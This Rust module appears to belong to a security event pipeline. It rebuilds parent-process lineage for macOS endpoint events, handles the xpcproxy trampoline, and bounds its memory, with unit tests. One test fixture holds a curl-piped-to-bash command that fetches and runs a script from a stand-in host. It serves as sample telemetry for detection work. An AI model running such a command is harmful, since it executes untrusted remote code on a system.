//! Parent lineage from a process table: sources such as eslogger name a new process's parent only by pid.
//! [`Lineage`] remembers the executable (and command line) of every process start it sees, keyed by host and
//! pid, and fills `process.parent.executable` / `process.parent.name` / `process.parent.command_line` into
//! later events that have `process.parent.pid` but not those fields, so rules and alert reasons written against
//! the Elastic shape (`process.parent.name`) work on them.
//! launchd's trampoline (`/usr/libexec/xpcproxy`, [`TRAMPOLINES`]) is a special case: every launchd job and XPC
//! service starts as it and then execs the service's own executable in the same pid, and Elastic Endpoint
//! names a service's child's parent by the image that pid had first (the trampoline). When the table has
//! seen what that pid exec'd into, an event whose parent is recorded as the trampoline gets the service's
//! image instead, and a trampoline record that arrives just after the service's own exec of the same pid
//! (within [`TRAMPOLINE_SKEW_NS`]: the agent's records are not always in exec order) does not replace it.
//! The table is bounded in entries ([`MAX_PROCS`]) and in bytes ([`MAX_LINEAGE_BYTES`]; a command line
//! is kept up to [`MAX_KEPT_COMMAND_LINE`] bytes): the oldest entries go first. Remote agents can send
//! any pid with any command line, so neither bound may depend on them behaving.

use std::collections::{BTreeMap, VecDeque};
use std::sync::LazyLock;

use crate::{Event, Field, Value};

const MAX_PROCS: usize = 100_000;
/// Most bytes of executables, names, command lines and host ids the table holds.
pub const MAX_LINEAGE_BYTES: usize = 32 << 20;
/// Longest command line kept for a parent (the kernel sensor cuts its own at 16 KiB too).
pub const MAX_KEPT_COMMAND_LINE: usize = 16 << 10;
/// What an entry costs besides its strings: key, map node, order slot.
const ENTRY_OVERHEAD: usize = 160;
/// Executables that only start another one in the same pid (see the module notes).
pub const TRAMPOLINES: &[&str] = &["/usr/libexec/xpcproxy"];
/// A trampoline record of a pid this close (either way) to that pid's exec of another image is taken for
/// the trampoline that preceded it, not for a new process.
pub const TRAMPOLINE_SKEW_NS: i64 = 10_000_000_000;

struct LineageFields {
    category: Field,
    etype: Field,
    host_id: Field,
    pid: Field,
    exe: Field,
    name: Field,
    ppid: Field,
    pexe: Field,
    pname: Field,
    cmd: Field,
    pcmd: Field,
}

static F: LazyLock<LineageFields> = LazyLock::new(|| LineageFields {
    category: Field::intern("event.category"),
    etype: Field::intern("event.type"),
    host_id: Field::intern("host.id"),
    pid: Field::intern("process.pid"),
    exe: Field::intern("process.executable"),
    name: Field::intern("process.name"),
    ppid: Field::intern("process.parent.pid"),
    pexe: Field::intern("process.parent.executable"),
    pname: Field::intern("process.parent.name"),
    cmd: Field::intern("process.command_line"),
    pcmd: Field::intern("process.parent.command_line"),
});

fn has(ev: &Event, f: Field, want: &str) -> bool {
    match ev.get(f) {
        Some(Value::Str(s)) => &**s == want,
        Some(Value::Array(a)) => a.iter().any(|v| v.as_str() == Some(want)),
        _ => false,
    }
}

/// What the table keeps of one process start.
struct Proc {
    exe: Value,
    name: Option<Value>,
    command_line: Option<Value>,
    /// The start's event time.
    ts: i64,
    /// What this entry counts against [`MAX_LINEAGE_BYTES`].
    bytes: usize,
}

fn is_trampoline(v: &Value) -> bool {
    v.as_str().is_some_and(|s| TRAMPOLINES.contains(&s))
}

fn str_bytes(v: Option<&Value>) -> usize {
    v.and_then(Value::as_str).map_or(0, str::len)
}

/// A command line cut to [`MAX_KEPT_COMMAND_LINE`] bytes (at a character boundary).
fn kept_command_line(v: &Value) -> Value {
    match v.as_str() {
        Some(s) if s.len() > MAX_KEPT_COMMAND_LINE => {
            let mut end = MAX_KEPT_COMMAND_LINE;
            while !s.is_char_boundary(end) {
                end -= 1;
            }
            Value::Str(s[..end].into())
        }
        _ => v.clone(),
    }
}

#[derive(Default)]
pub struct Lineage {
    procs: BTreeMap<(String, i64), Proc>,
    order: VecDeque<(String, i64)>,
    /// Sum of the entries' `bytes`.
    bytes: usize,
    /// Entries dropped to stay within the bounds since start.
    shed: u64,
}

impl Lineage {
    /// Bytes the table holds (what [`MAX_LINEAGE_BYTES`] bounds) and its entries.
    pub fn held(&self) -> (usize, usize) {
        (self.bytes, self.procs.len())
    }

    /// Entries dropped to stay within the table's bounds since start.
    pub fn shed(&self) -> u64 {
        self.shed
    }

    fn host(ev: &Event) -> String {
        ev.get(F.host_id)
            .and_then(Value::as_str)
            .unwrap_or_default()
            .to_string()
    }

    /// Records process starts; returns the event with its parent image filled in when it was missing
    /// and known (`None`: nothing to add, use the event as is).
    pub fn observe(&mut self, ev: &Event) -> Option<Event> {
        let f = &*F;
        if has(ev, f.category, "process") && has(ev, f.etype, "start") {
            if let (Some(pid), Some(exe)) = (ev.get(f.pid).and_then(Value::as_i64), ev.get(f.exe)) {
                let key = (Lineage::host(ev), pid);
                let name = ev.get(f.name).cloned();
                let command_line = ev.get(f.cmd).map(kept_command_line);
                let bytes = ENTRY_OVERHEAD
                    + key.0.len()
                    + str_bytes(Some(exe))
                    + str_bytes(name.as_ref())
                    + str_bytes(command_line.as_ref());
                let proc = Proc {
                    exe: exe.clone(),
                    name,
                    command_line,
                    ts: ev.timestamp_ns,
                    bytes,
                };
                // The trampoline that ran just before the service it exec'd into, reported after it.
                let late_trampoline = is_trampoline(exe)
                    && self.procs.get(&key).is_some_and(|old| {
                        !is_trampoline(&old.exe)
                            && ev.timestamp_ns.abs_diff(old.ts) <= TRAMPOLINE_SKEW_NS.unsigned_abs()
                    });
                if !late_trampoline {
                    match self.procs.insert(key.clone(), proc) {
                        Some(old) => self.bytes -= old.bytes,
                        None => self.order.push_back(key),
                    }
                    self.bytes += bytes;
                }
                while self.order.len() > MAX_PROCS || self.bytes > MAX_LINEAGE_BYTES {
                    let Some(old) = self.order.pop_front() else {
                        break;
                    };
                    if let Some(p) = self.procs.remove(&old) {
                        self.bytes -= p.bytes;
                        self.shed += 1;
                    }
                }
            }
        }
        let own_trampoline = ev.get(f.pexe).is_some_and(is_trampoline);
        if !own_trampoline
            && ev.get(f.pexe).is_some()
            && ev.get(f.pname).is_some()
            && ev.get(f.pcmd).is_some()
        {
            return None;
        }
        let ppid = ev.get(f.ppid).and_then(Value::as_i64)?;
        let parent = self.procs.get(&(Lineage::host(ev), ppid))?;
        // A parent image the event names itself wins; the table only fills what is missing, and only from
        // the same image (a parent whose executable differs from the table's has exec'd since). Except the
        // trampoline: a parent recorded as it is the service it exec'd into, when the table has that.
        let replace = own_trampoline && !is_trampoline(&parent.exe);
        if let Some(own) = ev.get(f.pexe) {
            if own != &parent.exe && !replace {
                return None;
            }
        }
        let mut out = ev.clone();
        if out.get(f.pexe).is_none() || replace {
            out.set(f.pexe, parent.exe.clone());
        }
        if out.get(f.pname).is_none() || replace {
            let n = parent.name.clone().or_else(|| {
                parent
                    .exe
                    .as_str()
                    .map(|p| Value::Str(p.rsplit('/').next().unwrap_or(p).into()))
            });
            if let Some(n) = n {
                out.set(f.pname, n);
            }
        }
        if out.get(f.pcmd).is_none() || replace {
            if let Some(c) = &parent.command_line {
                out.set(f.pcmd, c.clone());
            }
        }
        Some(out)
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]
    use super::*;

    fn exec(pid: i64, ppid: i64, exe: &str) -> Event {
        Event::from_json(&serde_json::json!({"event": {"category": ["process"], "type": ["start"]}, "host": {"id": "h"},
            "process": {"pid": pid, "executable": exe, "parent": {"pid": ppid}}}))
        .unwrap()
    }

    #[test]
    fn fills_parent_from_earlier_exec() {
        let mut l = Lineage::default();
        assert!(l.observe(&exec(10, 1, "/usr/sbin/installer")).is_none());
        let filled = l.observe(&exec(11, 10, "/bin/bash")).unwrap();
        assert_eq!(
            filled
                .get_path("process.parent.name")
                .and_then(Value::as_str),
            Some("installer")
        );
        assert_eq!(
            filled
                .get_path("process.parent.executable")
                .and_then(Value::as_str),
            Some("/usr/sbin/installer")
        );
        // Unknown parent: nothing to add.
        assert!(l.observe(&exec(12, 99, "/bin/sh")).is_none());
    }

    fn at(mut ev: Event, secs: i64) -> Event {
        ev.timestamp_ns = secs * 1_000_000_000;
        ev
    }

    fn parent_of(mut ev: Event, exe: &str, name: &str) -> Event {
        ev.set(
            Field::intern("process.parent.executable"),
            Value::Str(exe.into()),
        );
        ev.set(
            Field::intern("process.parent.name"),
            Value::Str(name.into()),
        );
        ev
    }

    fn parent_exe(ev: &Event) -> Option<&str> {
        ev.get_path("process.parent.executable")
            .and_then(Value::as_str)
    }

    // As Elastic Endpoint reported Automator running a workflow: the runner's exec (pid 30, parent launchd),
    // then, 0.4 s later, the xpcproxy record of the same pid, then the runner's shell naming its parent as
    // xpcproxy.
    #[test]
    fn a_parent_recorded_as_the_trampoline_is_the_service_it_became() {
        let runner = "/System/Library/Frameworks/Automator.framework/Versions/A/XPCServices/com.apple.automator.runner.xpc/Contents/MacOS/com.apple.automator.runner";
        let mut l = Lineage::default();
        let mut svc = at(exec(30, 1, runner), 100);
        svc.set(
            Field::intern("process.command_line"),
            Value::Str(runner.into()),
        );
        assert!(l.observe(&svc).is_none());
        let tramp = at(exec(30, 1, "/usr/libexec/xpcproxy"), 100);
        l.observe(&tramp);
        let sh = parent_of(
            at(exec(31, 30, "/bin/sh"), 102),
            "/usr/libexec/xpcproxy",
            "xpcproxy",
        );
        let filled = l.observe(&sh).unwrap();
        assert_eq!(parent_exe(&filled), Some(runner));
        assert_eq!(
            filled
                .get_path("process.parent.name")
                .and_then(Value::as_str),
            Some("com.apple.automator.runner")
        );
        assert_eq!(
            filled
                .get_path("process.parent.command_line")
                .and_then(Value::as_str),
            Some(runner)
        );
        // A parent recorded as the trampoline whose pid the table never saw exec (cron's job in the
        // recordings): nothing to put in its place.
        let job = parent_of(
            at(exec(41, 40, "/bin/sh"), 103),
            "/usr/libexec/xpcproxy",
            "cron",
        );
        assert!(l
            .observe(&job)
            .is_none_or(|e| parent_exe(&e) == Some("/usr/libexec/xpcproxy")));
        // A copy of xpcproxy elsewhere is not the trampoline: the event's own parent stays.
        let rogue = parent_of(
            at(exec(32, 30, "/bin/sh"), 104),
            "/tmp/xpcproxy",
            "xpcproxy",
        );
        assert!(l.observe(&rogue).is_none());
    }

    #[test]
    fn a_trampoline_long_after_is_a_new_process_in_a_reused_pid() {
        let mut l = Lineage::default();
        l.observe(&at(exec(50, 1, "/usr/sbin/cupsd"), 100));
        // The pid is reused an hour later by launchd's trampoline for another job.
        l.observe(&at(exec(50, 1, "/usr/libexec/xpcproxy"), 3_700));
        let child = parent_of(
            at(exec(51, 50, "/bin/sh"), 3_701),
            "/usr/libexec/xpcproxy",
            "xpcproxy",
        );
        let got = l.observe(&child);
        assert!(got.is_none_or(|e| parent_exe(&e) == Some("/usr/libexec/xpcproxy")));
    }

    #[test]
    fn fills_parent_command_line_from_the_same_image_only() {
        let mut l = Lineage::default();
        let mut bash = exec(20, 1, "/bin/bash");
        bash.set(
            Field::intern("process.command_line"),
            Value::Str("/bin/bash -c curl -s https://x.example/i | bash".into()),
        );
        assert!(l.observe(&bash).is_none());
        let filled = l.observe(&exec(21, 20, "/usr/bin/osascript")).unwrap();
        assert_eq!(
            filled
                .get_path("process.parent.command_line")
                .and_then(Value::as_str),
            Some("/bin/bash -c curl -s https://x.example/i | bash")
        );
        // The event names another parent image than the table: the table is stale, nothing is mixed in.
        let mut other = exec(22, 20, "/bin/sh");
        other.set(
            Field::intern("process.parent.executable"),
            Value::Str("/usr/bin/python3".into()),
        );
        assert!(l.observe(&other).is_none());
    }

    #[test]
    fn fake_pids_with_huge_command_lines_stay_within_the_byte_bound_and_are_counted() {
        let mut l = Lineage::default();
        let cmd = "c".repeat(1 << 20);
        for pid in 0..5_000 {
            let ev = Event::from_json(&serde_json::json!({"event": {"category": ["process"], "type": ["start"]},
                "host": {"id": format!("host-{pid}-{}", "h".repeat(1000))},
                "process": {"pid": pid, "executable": format!("/x/{}", "e".repeat(4000)), "command_line": cmd}}))
            .unwrap();
            l.observe(&ev);
            assert!(l.held().0 <= MAX_LINEAGE_BYTES, "{} bytes held", l.held().0);
        }
        // 5,000 entries of ~21 KiB each do not fit in 32 MiB: the oldest went, and were counted.
        let (bytes, n) = l.held();
        assert!(n < 5_000 && n > 1_000, "{n} entries, {bytes} bytes");
        assert_eq!(l.shed(), 5_000 - n as u64);
        // The newest is still there, with its command line cut.
        let child = Event::from_json(
            &serde_json::json!({"host": {"id": format!("host-4999-{}", "h".repeat(1000))},
            "process": {"pid": 1, "parent": {"pid": 4999}}}),
        )
        .unwrap();
        let filled = l.observe(&child).unwrap();
        let pcmd = filled.get_path("process.parent.command_line").unwrap();
        assert_eq!(pcmd.as_str().map(str::len), Some(MAX_KEPT_COMMAND_LINE));
    }
}
